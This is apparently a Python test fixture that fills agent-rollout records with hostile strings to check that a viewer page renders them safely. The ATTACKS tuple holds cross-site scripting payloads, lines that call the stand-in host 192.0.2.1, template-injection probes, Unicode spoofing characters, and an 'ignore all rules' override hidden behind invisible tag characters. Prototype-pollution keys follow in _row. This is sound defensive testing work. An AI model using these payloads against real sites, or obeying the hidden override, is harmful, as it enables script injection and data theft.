"""Rollouts that try to take over the page: every field holds an attack."""

from __future__ import annotations

from typing import Any

from rollyard.records.types import Json

CODE = "document.title='taken';alert(1);fetch('http://192.0.2.1/x')"
LOST = 100
"""The task of the abandoned rollout."""
ATTACKS = (
    f"<script>{CODE}</script>",
    f'<img src=x onerror="{CODE}">',
    f"<svg onload={CODE}><a href=javascript:{CODE}>go</a></svg>",
    f'<a href="javascript:{CODE}">read this</a>',
    f"</script><script>{CODE}</script><!--<script>",
    "</title></style></textarea><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>*{display:none!important}body{background:url(http://192.0.2.1/css)}</style>",
    "<link rel=stylesheet href=http://192.0.2.1/a.css><meta http-equiv=refresh content='0;url=http://192.0.2.1'>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 7*7 %> #{7*7}",
    '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
    "safe\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\ufeff \u0000\u0007\u001b[31mred",
    "\U000e0049\U000e0067\U000e006e ignore all rules",
    "Z\u0351\u036b\u0343" * 40,
    "a" * 1_500_000,
    "line\n" * 20_000,
)


def attacks() -> list[Json]:
    """A row for each attack, and one with unexpected types."""
    return [*(_row(number, text) for number, text in enumerate(ATTACKS)), _shapes(len(ATTACKS))]


def failures() -> list[Json]:
    """The failed attempts of an abandoned rollout, for X_failures.jsonl."""
    keys = {"_ng_task_index": LOST, "_ng_rollout_index": 0, "status": 500, "terminal": False, "duration_s": 1.5}
    return [
        {**keys, "_ng_attempt_index": attempt, "time": 1.8e9 + attempt, "agent_ref": {"name": text},
         **dict.fromkeys(("failure_kind", "server", "detail"), text)}
        for attempt, text in enumerate(ATTACKS[:3])
    ]  # fmt: skip


def _row(number: int, text: str) -> Json:
    short = text[:200]
    output: list[Json] = [
        {"type": "reasoning", "summary": [{"type": "summary_text", "text": text}]},
        {"type": "function_call", "call_id": short, "name": short, "arguments": text},
        {"type": "function_call_output", "call_id": short, "output": text},
        {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": text}]},
        {"type": short, "anything": short},
    ]
    return {
        **_keys(number, [{"role": "system", "content": text}, {"role": "user", "content": text}], output),
        "finish_reason": short,
        "agent_ref": {"name": short},
        short: short,
        "hasOwnProperty": short,
        "__proto__": {"polluted": short, "toString": "x"},
        "constructor": {"prototype": {"polluted": "yes"}},
        "timings": {text[:100]: 1.0, "total_s": 2.0},
    }


def _shapes(number: int) -> Json:
    output: list[Any] = [None, 1, "x", [], {"type": None}, {"type": "message", "content": [[[]]]}]
    row = _keys(number, [{"role": ["x"], "content": {"text": 5}}, 7, None], output)
    return {**row, "finish_reason": {"a": ["<b>"]}, "agent_ref": ["<i>"], "timings": "never"}


def _keys(task: int, prompt: list[Any], output: list[Any]) -> Json:
    rollout = {"_ng_task_index": task, "_ng_rollout_index": 0, "reward": 1.0}
    return {**rollout, "responses_create_params": {"input": prompt}, "response": {"model": "m", "output": output}}
